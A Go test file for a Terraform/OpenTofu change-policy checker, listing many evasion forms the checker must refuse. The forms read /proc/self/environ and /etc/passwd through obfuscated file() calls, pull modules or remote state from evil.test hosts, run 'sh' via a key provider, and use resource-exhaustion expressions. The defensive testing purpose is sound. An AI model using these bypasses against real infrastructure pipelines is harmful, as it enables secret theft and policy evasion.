package policy

import (
	"maps"
	"slices"
	"strings"
	"testing"

	"reconcile/reconciler/workspace/repotree"
	"reconcile/reconciler/workspace/settings"
)

// forms are attacks that hide what they do in the way it is written, or do it in a block that
// seldom has such a thing. Each has a part of the expected violation.
var forms = map[string]struct {
	change map[string]string
	want   string
}{
	"ip ranges url":            {map[string]string{"o.tf": "data \"aws_ip_ranges\" \"c\" {\n  services = [\"ec2\"]\n  url = \"https://evil.test/x\"\n}\n"}, "is not allowed with"},
	"ip ranges dynamic null":   {map[string]string{"o.tf": "data \"aws_ip_ranges\" \"c\" {\n  services = [\"ec2\"]\n  url = null\n}\n"}, "is not allowed with"},
	"run task":                 {map[string]string{"o.tf": "data \"aws_ecs_task_execution\" \"c\" {}\n"}, "is not allowed"},
	"password data":            {map[string]string{"o.tf": "data \"aws_instance\" \"c\" {\n  get_password_data = true\n}\n"}, "is not allowed with"},
	"user data unknown":        {map[string]string{"o.tf": "data \"aws_instance\" \"c\" {\n  get_user_data = var.x == \"a\"\n}\n"}, "is not allowed with"},
	"other registry":           {map[string]string{"o.tf": "terraform {\n  required_providers {\n    aws = { source = \"registry.opentofu.org/hashicorp/aws\" }\n  }\n}\n"}, "provider registry"},
	"upper registry":           {map[string]string{"o.tf": "terraform {\n  required_providers {\n    aws = { source = \"Registry.Terraform.io/hashicorp/aws\" }\n  }\n}\n"}, "provider Registry"},
	"registry port":            {map[string]string{"o.tf": "terraform {\n  required_providers {\n    aws = { source = \"registry.terraform.io:8443/hashicorp/aws\" }\n  }\n}\n"}, "provider registry"},
	"idn registry":             {map[string]string{"o.tf": "terraform {\n  required_providers {\n    aws = { source = \"registry.terraform\u3002io.evil.test/hashicorp/aws\" }\n  }\n}\n"}, "provider registry"},
	"unicode provider name":    {map[string]string{"o.tf": "terraform {\n  required_providers {\n    aws = { source = \"h\u0430shicorp/aws\" }\n  }\n}\n"}, "provider h"},
	"validation calls file":    {map[string]string{"o.tf": "variable \"y\" {\n  default = 1\n  validation {\n    condition     = var.y == 2\n    error_message = file(\"/proc/self/environ\")\n  }\n}\n"}, "reads outside"},
	"import for_each id":       {map[string]string{"o.tf": "import {\n  for_each = { a = file(\"/proc/self/environ\") }\n  to       = terraform_data.q[each.key]\n  id       = each.value\n}\nresource \"terraform_data\" \"q\" {\n  for_each = toset([\"a\"])\n}\n"}, "reads outside"},
	"import provider choice":   {map[string]string{"o.tf": "import {\n  to = aws_instance.q\n  id = filebase64(\"/proc/self/environ\")\n}\nresource \"aws_instance\" \"q\" {}\n"}, "reads outside"},
	"import into module":       {map[string]string{"o.tf": "module \"m\" {\n  source = \"../../modules/m\"\n  path = \"x.txt\"\n}\nimport {\n  to = module.m.aws_ssm_parameter.p\n  id = \"x\"\n}\n"}, "import of"},
	"import identity":          {map[string]string{"o.tf": "import {\n  to = aws_iam_access_key.p\n  identity = {\n    id = \"x\"\n  }\n}\n"}, "import of"},
	"removed provisioner":      {map[string]string{"o.tf": "removed {\n  from = terraform_data.zz\n  lifecycle {\n    destroy = true\n  }\n  provisioner \"local-exec\" {\n    when = destroy\n    command = file(\"/proc/self/environ\")\n  }\n}\n"}, "reads outside"},
	"action block":             {map[string]string{"o.tf": "action \"aws_lambda_invoke\" \"x\" {\n  config {\n    payload = file(\"/proc/self/environ\")\n  }\n}\n"}, "reads outside"},
	"ephemeral file":           {map[string]string{"o.tf": "ephemeral \"random_password\" \"x\" {\n  length = length(file(\"/proc/self/environ\"))\n}\n"}, "reads outside"},
	"state_store":              {map[string]string{"o.tf": "terraform {\n  state_store \"x_y\" {\n    provider \"x\" {}\n  }\n}\n"}, "is not allowed in terraform"},
	"list block":               {map[string]string{"o.tf": "list \"aws_x\" \"y\" {\n  provider = aws\n}\n"}, "not supported"},
	"language block":           {map[string]string{"o.tf": "terraform {\n  language \"x\" {}\n}\n"}, "is not allowed in terraform"},
	"encryption":               {map[string]string{"o.tf": "terraform {\n  encryption {\n    key_provider \"external\" \"x\" {\n      command = [\"sh\"]\n    }\n  }\n}\n"}, "is not allowed in terraform"},
	"encryption json":          {map[string]string{"o.tf.json": `{"terraform":{"encryption":{"key_provider":{"external":{"x":{"command":["sh"]}}}}}}`}, "is not allowed"},
	"tfvars":                   {map[string]string{"terraform.tfvars": "x = \"/proc/self/environ\"\n", "o.tf": "output \"o\" {\n  value = file(var.x)\n}\n"}, "reads outside"},
	"tfvars json":              {map[string]string{"terraform.tfvars.json": `{"x": "/proc/self/environ"}`, "o.tf": "output \"o\" {\n  value = file(var.x)\n}\n"}, "reads outside"},
	"auto tfvars json":         {map[string]string{"a.auto.tfvars.json": `{"x": "/proc/self/environ"}`, "o.tf": "output \"o\" {\n  value = file(var.x)\n}\n"}, "reads outside"},
	"two tfvars":               {map[string]string{"a.auto.tfvars": "x = \"/proc/self/environ\"\n", "b.auto.tfvars": "x = \"x.txt\"\n", "c.auto.tfvars.json": `{"x": "/etc/shadow"}`, "o.tf": "output \"o\" {\n  value = file(var.x)\n}\n"}, "reads outside"},
	"tfvars escaped":           {map[string]string{"terraform.tfvars": "x = \"\\u002fproc/self/environ\"\n", "o.tf": "output \"o\" {\n  value = file(var.x)\n}\n"}, "reads outside"},
	"tfvars with BOM":          {map[string]string{"terraform.tfvars": "\ufeffx = \"/proc/self/environ\"\n", "o.tf": "output \"o\" {\n  value = file(var.x)\n}\n"}, "reads outside"},
	"tfvars twice json":        {map[string]string{"terraform.tfvars.json": `{"x": "x.txt", "x": "/proc/self/environ"}`, "o.tf": "output \"o\" {\n  value = file(var.x)\n}\n"}, "Duplicate"},
	"NUL in a path":            {fileConfig("\"x.txt\\u0000/../../../../etc/passwd\""), "reads outside"},
	"NUL at the end":           {fileConfig("\"/etc/passwd\\u0000\""), "reads outside"},
	"a NUL byte in a file":     {map[string]string{"o.tf": "output \"o\" {\n  value = file(\"/etc/passwd\")\x00\n}\n"}, "Invalid"},
	"a NUL in a comment":       {map[string]string{"o.tf": "# \x00\noutput \"o\" {\n  value = file(\"/etc/passwd\")\n}\n"}, "reads outside"},
	"escaped slash":            {fileConfig("\"\\u002fetc\\u002fpasswd\""), "reads outside"},
	"big escape":               {fileConfig("\"\\U0000002fetc/passwd\""), "reads outside"},
	"heredoc path":             {map[string]string{"o.tf": "output \"o\" {\n  value = file(trimspace(<<E\n/etc/passwd\nE\n))\n}\n"}, "reads outside"},
	"heredoc chomp":            {map[string]string{"o.tf": "output \"o\" {\n  value = file(chomp(<<-E\n    /etc/passwd\n  E\n  ))\n}\n"}, "not known before"},
	"hidden by comment":        {map[string]string{"o.tf": "/* \" */ output \"o\" { /*\n*/ value = file( // x\n \"/etc/passwd\" # y\n)\n}\n"}, "Invalid"},
	"CRLF":                     {map[string]string{"o.tf": "output \"o\" {\r\n  value = file(\"/etc/passwd\")\r\n}\r\n"}, "reads outside"},
	"line separator":           {map[string]string{"o.tf": "# a\u2028output \"o\" {\n  value = file(\"/etc/passwd\")\n}\n"}, "Argument or block"},
	"BOM":                      {map[string]string{"o.tf": "\ufeffoutput \"o\" {\n  value = file(\"/etc/passwd\")\n}\n"}, "reads outside"},
	"bidi comment":             {map[string]string{"o.tf": "/* \u202e */ output \"o\" {\n  value = file(\"/etc/passwd\")\n}\n"}, "reads outside"},
	"one-line block":           {map[string]string{"o.tf": "output \"o\" { value = file(\"/etc/passwd\") }\n"}, "reads outside"},
	"quoted block":             {map[string]string{"o.tf": "output o {\n  value = file(\"/etc/passwd\")\n}\n"}, "reads outside"},
	"splat":                    {fileConfig("[\"/etc/passwd\"][*][0]"), "not known before"},
	"for grouping":             {fileConfig("values({for p in [\"/etc/passwd\"] : \"a\" => p...})[0][0]"), "reads outside"},
	"nested template":          {fileConfig("\"${\"${\"/etc\"}\"}/passwd\""), "reads outside"},
	"directive":                {fileConfig("\"%{ for x in [\"/etc/passwd\"] }${x}%{ endfor }\""), "reads outside"},
	"tilde strip":              {fileConfig("\"  ${~ \"/etc/passwd\" ~}  \""), "reads outside"},
	"number path":              {fileConfig("\"${1e3}/../../../../etc/passwd\""), "reads outside"},
	"chdir":                    {fileConfig("\"${path.root}/../../../../etc/passwd\""), "reads outside"},
	"NFD identifier":           {map[string]string{"o.tf": "locals {\n  \"e\u0301\" = \"/etc/passwd\"\n  \"\u00e9\" = \"x.txt\"\n}\noutput \"o\" {\n  value = file(local.\u00e9)\n}\n"}, "Invalid"},
	"NFD local":                {map[string]string{"o.tf": "locals {\n  e\u0301 = \"/etc/passwd\"\n}\noutput \"o\" {\n  value = file(local.e\u0301)\n}\n"}, "reads outside"},
	"template link twice":      {map[string]string{"o.tf": "output \"o\" {\n  value = templatefile(\"links/a.tpl\", {})\n}\n"}, "reads outside"},
	"template by heredoc":      {map[string]string{"o.tpl": "%{ for f in [\"/etc/passwd\"] }${file(f)}%{ endfor }", "o.tf": "output \"o\" {\n  value = templatefile(\"o.tpl\", {})\n}\n"}, "reads outside"},
	"template calls template":  {map[string]string{"o.tpl": "${templatefile(\"p.tpl\", {})}", "p.tpl": "${file(\"/etc/passwd\")}", "o.tf": "output \"o\" {\n  value = templatefile(\"o.tpl\", {})\n}\n"}, "reads outside"},
	"provider function file":   {outputConfig(`provider::terraform::decode_tfvars(file("/etc/passwd"))`), "reads outside"},
	"local provider function":  {outputConfig(`provider::local::direxists("/etc")`), "provider hashicorp/"},
	"aws function":             {outputConfig(`provider::aws::arn_parse(file("/etc/passwd"))`), "reads outside"},
	"override.tf":              {map[string]string{"override.tf": "output \"v\" {\n  value = file(\"/etc/passwd\")\n}\n"}, "reads outside"},
	"override.tf.json":         {map[string]string{"override.tf.json": `{"output":{"v":{"value":"${file(\"/etc/passwd\")}"}}}`}, "is not allowed"},
	"x_override.tf.json":       {map[string]string{"x_override.tf.json": `{"terraform":{"backend":{"local":{"path":"/x"}}}}`}, "JSON"},
	"module from a symlink":    {map[string]string{"o.tf": "module \"m\" {\n  source = \"./up\"\n}\n"}, "is not allowed"},
	"huge number":              {fileConfig("\"${1e999999999}\""), "not known before"},
	"huge number format":       {fileConfig("format(\"%d\", 1e9999999)"), "not known before"},
	"huge pow":                 {fileConfig("\"${pow(10, 100000000)}\""), "not known before"},
	"huge range":               {fileConfig("range(0, 100000000)[0]"), "not known before"},
	"huge repeat":              {fileConfig("join(\"\", [for i in range(1000) : join(\"\", [for j in range(1000) : \"aaaaaaaaaa\"])])"), "not known before"},
	"huge format width":        {fileConfig("format(\"%999999999s\", \"a\")"), "not known before"},
	"huge indent":              {fileConfig("indent(2147483647, \"a\\nb\")"), "not known before"},
	"regex bomb":               {fileConfig("regex(\"(a{0,1000}){0,1000}\", \"x.txt\")"), "not known before"},
	"setproduct":               {fileConfig("setproduct(range(1000), range(1000), range(1000))[0][0]"), "not known before"},
	"for_each dynamic":         {map[string]string{"o.tf": "resource \"terraform_data\" \"q\" {\n  dynamic \"x\" {\n    for_each = [file(\"/etc/passwd\")]\n    content {\n      y = x.value\n    }\n  }\n}\n"}, "reads outside"},
	"provisioner file source":  {map[string]string{"o.tf": "resource \"terraform_data\" \"q\" {\n  provisioner \"file\" {\n    source = \"/etc/passwd\"\n    destination = \"x\"\n  }\n}\n"}, "is outside"},
	"replace triggered":        {map[string]string{"o.tf": "resource \"terraform_data\" \"q\" {\n  lifecycle {\n    replace_triggered_by = [terraform_data.a]\n    postcondition {\n      condition = self.id != file(\"/etc/passwd\")\n      error_message = \"x\"\n    }\n  }\n}\n"}, "reads outside"},
	"depends_on":               {map[string]string{"o.tf": "output \"o\" {\n  value = 1\n  depends_on = [terraform_data.a]\n  precondition {\n    condition = file(\"/etc/passwd\") == \"\"\n    error_message = \"x\"\n  }\n}\n"}, "reads outside"},
	"variable default":         {map[string]string{"o.tf": "variable \"p\" {\n  default = \"/etc/passwd\"\n}\noutput \"o\" {\n  value = file(var.p)\n}\n"}, "reads outside"},
	"variable no default":      {map[string]string{"o.tf": "variable \"p\" {}\noutput \"o\" {\n  value = file(var.p)\n}\n"}, "not known before"},
	"object optional default":  {map[string]string{"o.tf": "variable \"p\" {\n  type = object({ f = optional(string, \"/etc/passwd\") })\n  default = {}\n}\noutput \"o\" {\n  value = file(var.p.f)\n}\n"}, "reads outside"},
	"type conversion":          {map[string]string{"o.tf": "variable \"p\" {\n  type = set(string)\n  default = [\"x.txt\", \"/etc/passwd\"]\n}\noutput \"o\" {\n  value = [for f in var.p : file(f)]\n}\n"}, "reads outside"},
	"nullable":                 {map[string]string{"o.tf": "module \"n\" {\n  source = \"../../modules/n\"\n  p = null\n}\n", "modules/n/main.tf": "variable \"p\" {\n  default = \"/etc/passwd\"\n  nullable = false\n}\noutput \"o\" {\n  value = file(var.p)\n}\n"}, "reads outside"},
	"module provider meta":     {map[string]string{"o.tf": "terraform {\n  provider_meta \"aws\" {\n    x = file(\"/etc/passwd\")\n  }\n}\n"}, "reads outside"},
	"required_version":         {map[string]string{"o.tf": "terraform {\n  required_version = file(\"/etc/passwd\")\n}\n"}, "reads outside"},
	"provider alias for_each":  {map[string]string{"o.tf": "provider \"aws\" {\n  alias = \"q\"\n  for_each = { a = file(\"/etc/passwd\") }\n}\n"}, "reads outside"},
	"provider in data":         {map[string]string{"o.tf": "data \"x_y\" \"q\" {\n  provider = evil.a\n}\n"}, "provider hashicorp/"},
	"resource of no provider":  {map[string]string{"o.tf": "resource \"evil_thing\" \"q\" {}\n"}, "provider hashicorp/"},
	"data with a strange name": {map[string]string{"o.tf": "data \"external\\u0000\" \"q\" {}\n"}, "provider hashicorp/"},
	"data label escaped":       {map[string]string{"o.tf": "data \"extern\\u0061l\" \"q\" {}\n"}, "provider hashicorp/"},
	"s3 body count 0":          {map[string]string{"o.tf": "data \"aws_s3_object\" \"c\" {\n  count = 0\n}\n"}, "is not allowed with"},
	"remote state http":        {map[string]string{"o.tf": "data \"terraform_remote_state\" \"c\" {\n  backend = \"http\"\n  config = { address = \"http://evil.test\" }\n}\n"}, "is not allowed"},
	"remote state defaults":    {map[string]string{"o.tf": "data \"terraform_remote_state\" \"c\" {\n  backend = \"local\"\n  config = { path = \"../db/terraform.tfstate\" }\n  defaults = { a = file(\"/etc/passwd\") }\n}\n"}, "reads outside"},
	"default_tags file":        {map[string]string{"o.tf": "provider \"aws\" {\n  alias = \"q\"\n  default_tags {\n    tags = { a = file(\"/etc/passwd\") }\n  }\n}\n"}, "reads outside"},
	"wide template var":        {map[string]string{"o.tf": "output \"o\" {\n  value = templatefile(\"policies/b.tpl\", { name = file(\"/etc/passwd\") })\n}\n"}, "reads outside"},
	"fileset dot":              {outputConfig(`fileset("/", "etc/*")`), "reads outside"},
	"fileset parent":           {outputConfig(`fileset(path.module, "../../../*")`), "uses a pattern"},
	"write_only":               {map[string]string{"o.tf": "resource \"aws_db_instance\" \"q\" {\n  password_wo = file(\"/etc/passwd\")\n}\n"}, "reads outside"},
}

// TestRefuseEveryForm checks that an attack is refused however it is written.
func TestRefuseEveryForm(t *testing.T) {
	t.Parallel()
	for _, name := range slices.Sorted(maps.Keys(forms)) {
		form := forms[name]
		if got := strings.Join(violationsOf(t, "app", form.change, defaultPolicy()), "\n"); !strings.Contains(got, form.want) {
			t.Errorf("%s: %q, want %q", name, got, form.want)
		}
	}
}

// TestRefuseInOpenTofu checks what only OpenTofu reads.
func TestRefuseInOpenTofu(t *testing.T) {
	t.Parallel()
	const read = "output \"q\" {\n  value = file(\"/etc/passwd\")\n}\n"
	for name, c := range map[string]struct {
		change map[string]string
		want   string // "": nothing is refused
	}{
		"a file of its own":           {map[string]string{"o.tofu": read}, "reads outside"},
		"an override of its own":      {map[string]string{"o_override.tofu": read}, "reads outside"},
		"JSON of its own":             {map[string]string{"o.tofu.json": `{"output":{"q":{"value":"${file(\"/etc/passwd\")}"}}}`}, "JSON"},
		"what shadows":                {map[string]string{"o.tf": "", "o.tofu": read}, "reads outside"},
		"what is shadowed":            {map[string]string{"o.tf": read, "o.tofu": ""}, ""},
		"a source by a variable":      {map[string]string{"o.tofu": "variable \"s\" {\n  default = \"http://evil.test/x.zip\"\n}\nmodule \"m\" {\n  source = var.s\n}\n"}, "is not allowed"},
		"a source by a local":         {map[string]string{"o.tofu": "locals {\n  s = \"oci://evil.test/x\"\n}\nmodule \"m\" {\n  source = local.s\n}\n"}, "is not allowed"},
		"a module by OCI":             {map[string]string{"o.tofu": "module \"m\" {\n  source = \"oci://evil.test/x\"\n}\n"}, "is not allowed"},
		"a provider for each":         {map[string]string{"o.tofu": "provider \"aws\" {\n  alias    = \"q\"\n  for_each = toset([\"a\"])\n  endpoints {\n    sts = \"https://evil.test\"\n  }\n}\n"}, "endpoints"},
		"encryption":                  {map[string]string{"o.tofu": "terraform {\n  encryption {\n    key_provider \"external\" \"x\" {\n      command = [\"sh\"]\n    }\n  }\n}\n"}, "encryption is not allowed"},
		"the registry of Terraform":   {map[string]string{"o.tofu": "terraform {\n  required_providers {\n    aws = { source = \"registry.terraform.io/hashicorp/aws\" }\n  }\n}\n"}, "provider registry.terraform.io/hashicorp/aws is not allowed"},
		"its own registry":            {map[string]string{"o.tofu": "terraform {\n  required_providers {\n    aws = { source = \"registry.opentofu.org/hashicorp/aws\" }\n  }\n}\n"}, ""},
		"a backend with a variable":   {map[string]string{"o.tofu": "terraform {\n  backend \"local\" {\n    path = var.x\n  }\n}\n"}, "moves the state"},
		"a data source that is new":   {map[string]string{"o.tofu": "ephemeral \"aws_ssm_parameter\" \"q\" {}\n"}, "is not allowed"},
		"enabled in place of a count": {map[string]string{"o.tofu": "module \"m\" {\n  source = \"../../modules/m\"\n  path   = \"/etc/passwd\"\n  lifecycle {\n    enabled = false\n  }\n}\n"}, "reads outside"},
	} {
		got := strings.Join(violationsIn(t, repotree.OpenTofu, "app", c.change, (&settings.Settings{}).PreviewPolicy(repotree.OpenTofu)), "\n")
		if c.want == "" && got != "" || !strings.Contains(got, c.want) {
			t.Errorf("%s: %q, want %q", name, got, c.want)
		}
	}
}
